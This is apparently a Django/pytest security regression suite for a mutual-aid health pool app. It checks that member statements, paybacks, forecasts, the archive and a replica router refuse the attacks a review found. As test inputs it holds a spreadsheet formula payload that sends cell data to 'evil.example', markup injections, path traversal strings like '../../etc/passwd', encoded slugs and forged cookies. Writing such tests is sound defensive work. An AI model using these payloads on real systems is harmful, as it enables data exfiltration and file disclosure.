"""What a second attacker's review of the statement, the wind-down and sponsored schemes, the
forecast, the language memory, the archive and the replica router found, each now refused,
and the attacks that held (kept as tests so that they keep holding)."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import ValidationError
from django.db import connection
from django.http import HttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from apportionment import archive, partitions, publishing
from claims.models import Claim, ClaimEvent, Notification, SponsoredScheme
from ledger.models import Account
from members import services as member_services
from members.models import AccountSettings, Membership, Person
from mutualaid import db_router
from notice import services as notice_services
from pools.models import WindDown
from pools.winddown import close_ended_wind_downs, request_payback
from reports import forecast
from tests.apportionment.helpers import approved_claim, family, run_all_chunks, top_up
from tests.apportionment.test_partitions import paid_out_batch
from tests.factories import ConditionFactory, MembershipFactory, PersonFactory, PoolFactory

pytestmark = pytest.mark.django_db
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def charged_member(full_name: str, pool_name: str = "Health", condition: str = "Cancer"):
    """An account whose member `full_name` was charged in one published batch of a pool named
    `pool_name` that paid a case of `condition`."""
    pool = PoolFactory(name=pool_name, name_zh=pool_name, fee_rate_bp=0)
    account, _members = family(pool, 1)
    Person.objects.filter(account=account).update(full_name=full_name)
    claim = approved_claim(pool, 10_00)
    claim.condition.name = claim.condition.name_zh = condition
    claim.condition.save()
    run_all_chunks(publishing.start_batch(pool))
    return account


# 1. The member statement ----------------------------------------------------------------


@pytest.mark.parametrize("evil", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1"])
def test_no_csv_cell_of_a_statement_starts_a_spreadsheet_formula(client, evil):
    account = charged_member(evil, pool_name="@SUM(1+1)", condition="-2+3")
    client.force_login(account)
    response = client.get(reverse("statement-csv"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert any(evil in cell for cell in cells)  # the name is still there, as text
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell


@pytest.mark.parametrize(
    "name",
    ["Li <b>Hua", '<img src="/etc/hostname"/>', '<a href="http://evil.example/">Pay</a>', "A & B"],
)
def test_a_name_is_text_in_the_statement_pdf_not_reportlab_markup(client, name):
    client.force_login(charged_member(name))
    response = client.get(reverse("statement-pdf"))
    assert response.status_code == 200 and response.content.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(response.content))
    text = "".join(page.extract_text() for page in reader.pages)
    assert "".join(name.split()) in "".join(text.split())  # shown literally
    assert b"evil.example" not in response.content or b"/URI" not in response.content


@pytest.mark.parametrize(
    "name", ["\U0001f600 Li", "\u202eauH iL", "Li\u0301\u0301\u0301 Hua", "李" * 100]
)
def test_a_name_in_odd_unicode_still_makes_a_pdf(client, name):
    client.force_login(charged_member(name))
    response = client.get(reverse("statement-pdf"))
    assert response.status_code == 200 and PdfReader(io.BytesIO(response.content)).pages


def test_no_cache_keeps_a_members_statement(client):
    """Names and money of a household: a shared cache (keyed without the Authorization header
    an API client sends) or the browser's disk must not keep them."""
    client.force_login(charged_member("Li Hua"))
    for path in ("statement", "statement-csv", "statement-pdf", "api-statement"):
        response = client.get(reverse(path))
        assert response.status_code == 200
        policy = response.headers.get("Cache-Control", "")
        assert "no-store" in policy and "private" in policy, path


@pytest.mark.parametrize("year", ["２０２６", "٢٠٢٦", "-2026", "+2026", "2026.0", " 2026x"])
def test_a_year_in_other_digits_or_signs_is_refused(client, year):
    client.force_login(MembershipFactory().person.account)
    answer = client.get("/api/v1/statement/", {"year": year})
    assert answer.status_code == 400 and answer.json()["detail"]
    assert client.get(reverse("statement-csv"), {"year": year}).status_code == 400


def test_a_statement_has_no_other_accounts_charges_whatever_the_query(client):
    mine = charged_member("Me")
    theirs = charged_member("Someone Else")
    client.force_login(mine)
    for query in ({}, {"account": theirs.pk, "user": theirs.pk, "membership": 1}):
        body = client.get("/api/v1/statement/", query).json()
        names = {m["person"] for m in body["memberships"]}
        assert names == {"Me"}
    year = timezone.now().year
    answer = client.get(f"/api/v1/statement/?year=2001&year={year}")  # the last one counts
    assert answer.status_code == 200 and answer.json()["year"] == year


# 2. Wind-down, pay-backs and sponsored schemes ----------------------------------------------


def wind_down(pool, *, days_since_closing=0, window_ended_days_ago=0, **fields):
    """The pool's wind-down record, its closing and last claim day that many days ago."""
    today = pool.today()
    return WindDown.objects.create(
        pool=pool,
        announced_at=timezone.now(),
        via=WindDown.Via.COMMAND,
        closing_date=today - timezone.timedelta(days=days_since_closing),
        claims_until=today - timezone.timedelta(days=window_ended_days_ago),
        **fields,
    )


def closed(pool):
    wind_down(pool, status=WindDown.Status.CLOSED, closed_at=timezone.now())


def test_no_payback_while_the_wallet_still_pays_for_an_open_membership():
    """A member of a closed pool and of an open one: the wallet funds the open one's charges,
    so it is not paid back (the next charge would lapse the membership)."""
    gone, still = PoolFactory(), PoolFactory()
    account, (member,) = family(gone, 1)
    spouse = PersonFactory(account=account, relationship=Person.Relationship.SPOUSE)
    MembershipFactory(pool=still, person=spouse)
    closed(gone)
    Membership.objects.filter(pk=member.pk).update(
        status=Membership.Status.POOL_CLOSED, ended_at=timezone.now()
    )
    top_up(account, 30_00)
    with pytest.raises(ValidationError, match="open membership"):
        request_payback(user=account)
    assert Account.objects.get(kind="wallet", owner=account).balance_cents == 30_00


def test_a_payback_twice_pays_once_and_an_empty_wallet_is_refused(client):
    pool = PoolFactory()
    account, (member,) = family(pool, 1)
    closed(pool)
    Membership.objects.filter(pk=member.pk).update(
        status=Membership.Status.POOL_CLOSED, ended_at=timezone.now()
    )
    top_up(account, 12_00)
    request_payback(user=account)
    with pytest.raises(ValidationError, match="empty"):
        request_payback(user=account)
    client.force_login(account)
    client.post(reverse("payback"))
    paid = Account.objects.get(kind=Account.Kind.PAYBACKS, owner__isnull=True).balance_cents
    assert paid == 12_00 and Account.objects.get(kind="wallet", owner=account).balance_cents == 0


def test_a_lapsed_membership_is_not_reinstated_into_a_closed_pool():
    """Lapsed memberships stay lapsed at the close: reinstated after it, one would be active
    in a pool that charges, covers and closes nothing more, and hold its wallet back."""
    pool = PoolFactory()
    account, (member,) = family(pool, 1)
    Membership.objects.filter(pk=member.pk).update(
        status=Membership.Status.LAPSED, ended_at=timezone.now()
    )
    closed(pool)
    with pytest.raises(ValidationError, match="closed"):
        member_services.reinstate_membership(member, account)
    member.refresh_from_db()
    assert member.status == Membership.Status.LAPSED


def test_an_open_membership_of_a_closed_pool_does_not_hold_the_wallet_back():
    pool = PoolFactory()
    account, (member,) = family(pool, 1)
    closed(pool)  # a membership left open there (reinstated before the close was refused)
    top_up(account, 5_00)
    request_payback(user=account)
    assert Account.objects.get(kind="wallet", owner=account).balance_cents == 0


def test_one_unanswered_claim_does_not_hold_the_close_and_every_payback_for_ever():
    pool = PoolFactory()
    account, (member,) = family(pool, 1)
    claim = approved_claim(pool, 10_00, membership=member)
    Claim.objects.filter(pk=claim.pk).update(status=Claim.Status.NEEDS_INFO)
    wind_down(pool, days_since_closing=400, window_ended_days_ago=221)
    assert close_ended_wind_downs() == [pool.slug]
    claim.refresh_from_db()
    assert claim.status == Claim.Status.WITHDRAWN
    assert claim.events.get(action="expire_unanswered").actor is None  # the system's move
    assert Notification.objects.filter(recipient=account, claim=claim).exists()  # told


def test_the_close_waits_for_a_rejections_appeal_period():
    """The last claims are decided just before the close: a claimant rejected yesterday keeps
    the 14 days to appeal (SPEC 4), and an appeal after the close would go to a panel in a
    pool that pays nothing more."""
    pool = PoolFactory()
    account, (member,) = family(pool, 1)
    claim = approved_claim(pool, 10_00, membership=member)
    Claim.objects.filter(pk=claim.pk).update(status=Claim.Status.REJECTED)
    rejection = ClaimEvent.objects.create(
        claim=claim, action="reject", from_status="investigated", to_status="rejected"
    )
    wind_down(pool, days_since_closing=200, window_ended_days_ago=21)
    ClaimEvent.objects.filter(pk=rejection.pk).update(at=timezone.now() - timezone.timedelta(1))
    assert close_ended_wind_downs() == []
    assert not notice_services.appeal_problem(claim)  # it may still be appealed
    ClaimEvent.objects.filter(pk=rejection.pk).update(at=timezone.now() - timezone.timedelta(15))
    assert close_ended_wind_downs() == [pool.slug]


def test_a_claim_with_another_pools_scheme_or_after_its_period_is_refused(client):
    pool, other = PoolFactory(), PoolFactory()
    account, (member,) = family(pool, 1)
    spouse = PersonFactory(account=account, relationship=Person.Relationship.SPOUSE)
    MembershipFactory(pool=other, person=spouse)  # the other pool's scheme is in the choices
    today = pool.today()
    theirs = SponsoredScheme.objects.create(
        pool=other, event="E", starts_on=today, ends_on=today, payout_cents=1, sponsor="S"
    )
    over = SponsoredScheme.objects.create(
        pool=pool,
        event="E",
        starts_on=today - timezone.timedelta(days=60),
        ends_on=today - timezone.timedelta(days=30),
        payout_cents=1,
        sponsor="S",
    )
    client.force_login(account)
    refusals = {theirs: "covers another pool", over: "covers diagnoses from"}
    for scheme, refusal in refusals.items():
        answer = client.post(
            "/api/v1/claims/",
            {
                "membership": member.pk,
                "condition": ConditionFactory().code,
                "scheme": scheme.pk,
                "cause": "illness",
                "diagnosis_date": today.isoformat(),
                "hospital": "H",
                "province": "Zhejiang",
            },
            "application/json",
        )
        assert answer.status_code == 400 and refusal in answer.json()["detail"]
        page = client.post(
            reverse("claim-new"),
            {
                "membership": member.pk,
                "condition": pool.conditions.first().pk,
                "scheme": scheme.pk,
                "cause": "illness",
                "diagnosis_date": today.isoformat(),
                "hospital": "H",
                "province": "Zhejiang",
                "submit": "1",
            },
        )
        assert page.status_code == 200 and refusal in page.content.decode()
    assert not Claim.objects.filter(scheme__isnull=False).exclude(status="draft").exists()


# 3. The forecast ------------------------------------------------------------------------


def test_a_sponsored_schemes_claims_are_not_in_the_members_forecast():
    """They are paid by the sponsor, never apportioned: in review or approved, they add
    nothing to the next batch's share."""
    pool = PoolFactory(fee_rate_bp=0)
    family(pool, 3)
    today = pool.today()
    scheme = SponsoredScheme.objects.create(
        pool=pool, event="E", starts_on=today, ends_on=today, payout_cents=500_00, sponsor="S"
    )
    in_review = approved_claim(pool, 500_00)
    approved = approved_claim(pool, 500_00)
    Claim.objects.filter(pk=in_review.pk).update(scheme=scheme, status=Claim.Status.SUBMITTED)
    Claim.objects.filter(pk=approved.pk).update(scheme=scheme)
    result = forecast.forecast_for(pool)
    assert (result.approved_claims, result.review_claims) == (0, 0)
    assert result.expected_payouts_cents == result.high_payouts_cents == 0
    assert result.expected_cents == result.high_cents == 0


ODD_SLUGS = ["ｈｅａｌｔｈ", "heаlth", "h" * 5000, "%00", "..%2f..", "health%0a"]


@pytest.mark.parametrize("slug", ODD_SLUGS)
def test_an_odd_slug_has_no_forecast(client, slug):
    PoolFactory(slug="health")
    answer = client.get(f"/api/v1/pools/{slug}/forecast/")
    assert answer.status_code in (400, 404) and answer.json()["detail"]


def test_a_pool_with_nobody_and_huge_payouts_forecasts_without_error(client):
    empty = PoolFactory()
    answer = client.get(f"/api/v1/pools/{empty.slug}/forecast/")
    assert answer.status_code == 200 and answer.json()["expected_cents"] == 0
    pool = PoolFactory(fee_rate_bp=800)
    family(pool, 1)
    approved_claim(pool, 10**15)
    answer = client.get(f"/api/v1/pools/{pool.slug}/forecast/").json()
    assert answer["expected_payouts_cents"] == 10**15 and answer["expected_cents"] > 0


# 4. The language memory -----------------------------------------------------------------


@pytest.mark.parametrize("header", ["xx-evil", "zh-hans;q=1", "*", "en" * 500, "zh-Hant-TW"])
def test_an_anonymous_request_stores_nothing_and_a_member_only_a_site_language(client, header):
    client.get("/zh-hans/", HTTP_ACCEPT_LANGUAGE=header)
    client.get("/xx/", HTTP_ACCEPT_LANGUAGE=header)
    assert not AccountSettings.objects.exists()
    account = MembershipFactory().person.account
    client.force_login(account)
    client.get(reverse("dashboard"), HTTP_ACCEPT_LANGUAGE=header)
    client.get("/xx-evil/dashboard/", HTTP_ACCEPT_LANGUAGE=header)
    stored = set(AccountSettings.objects.values_list("language", flat=True))
    assert stored <= {"en", "zh-hans"}


def test_an_anonymous_visit_of_todays_pages_writes_nothing(client):
    pool = PoolFactory()
    family(pool, 1)
    paths = [
        "/statement/",
        "/statement/csv/?year=2026",
        "/statement/pdf/",
        "/api/v1/statement/",
        f"/api/v1/pools/{pool.slug}/forecast/",
        "/zh-hans/",
        "/zh-hans/reports/",
        "/wallet/payback/",
    ]
    with CaptureQueriesContext(connection) as queries:
        for path in paths:
            assert client.get(path, HTTP_ACCEPT_LANGUAGE="zh-hans").status_code < 500
        assert client.post("/wallet/payback/").status_code in (302, 403)
    writes = [q["sql"] for q in queries if q["sql"].split()[0] in ("INSERT", "UPDATE", "DELETE")]
    assert writes == []


# 5. The archive -------------------------------------------------------------------------


@pytest.fixture
def archive_root(settings, tmp_path):
    settings.ARCHIVE_ROOT = tmp_path / "archive"
    return settings.ARCHIVE_ROOT


def test_archiving_an_archived_batch_again_keeps_its_file(archive_root):
    """Two archive_batches runs list the same batch; the second, holding the batch as it was,
    must neither truncate the file (the only copy of the charges) nor fail with a SQL error."""
    batch = paid_out_batch(PoolFactory())
    stale = type(batch).objects.get(pk=batch.pk)
    path = archive.archive_batch(batch)
    kept = path.read_bytes()
    with pytest.raises(ValidationError, match="archived"):
        archive.archive_batch(stale)
    assert path.read_bytes() == kept
    batch.refresh_from_db()
    assert archive.verify_archive(batch)[2] == batch.participants
    assert not partitions.partition_exists(batch.pk)


def test_an_archive_file_name_from_the_database_stays_in_the_archive(archive_root):
    batch = paid_out_batch(PoolFactory())
    archive.archive_batch(batch)
    batch.refresh_from_db()
    for name in ("../../etc/passwd", "/etc/passwd", "..\\..\\x"):
        batch.archive_file = name
        with pytest.raises(ValidationError):
            archive.verify_archive(batch)


# 6. The replica router ------------------------------------------------------------------


def test_a_forged_or_replayed_read_your_writes_cookie_reads_nothing_from_it(rf, settings):
    """The cookie is signed and timestamped: forged or past its window, it is ignored (read
    here without a replica: the check itself does not need one)."""
    request = rf.get("/reports/")
    request.COOKIES[db_router.COOKIE] = "1"  # forged: unsigned
    assert not db_router.wrote_recently(request)
    response = HttpResponse()
    response.set_signed_cookie(db_router.COOKIE, "1", salt=db_router.COOKIE_SALT)
    signed = response.cookies[db_router.COOKIE].value
    request.COOKIES[db_router.COOKIE] = signed
    assert db_router.wrote_recently(request)
    settings.REPLICA_READ_YOUR_WRITES_SECONDS = -1  # the window has passed: a replay
    assert not db_router.wrote_recently(request)
    other_salt = HttpResponse()
    other_salt.set_signed_cookie(db_router.COOKIE, "1")  # signed, but for something else
    request.COOKIES[db_router.COOKIE] = other_salt.cookies[db_router.COOKIE].value
    settings.REPLICA_READ_YOUR_WRITES_SECONDS = 5
    assert not db_router.wrote_recently(request)


def test_writes_and_private_pages_never_go_to_the_replica(settings):
    router = db_router.ReplicaRouter()
    token = db_router._request.set(db_router._Request(reads=db_router.REPLICA))
    try:
        assert router.db_for_write(Account) == "default"
        assert router.db_for_read(get_user_model()) == "default"
    finally:
        db_router._request.reset(token)
    private = {"statement", "statement-csv", "statement-pdf", "api-statement", "dashboard"}
    assert not private & settings.REPLICA_READ_VIEWS
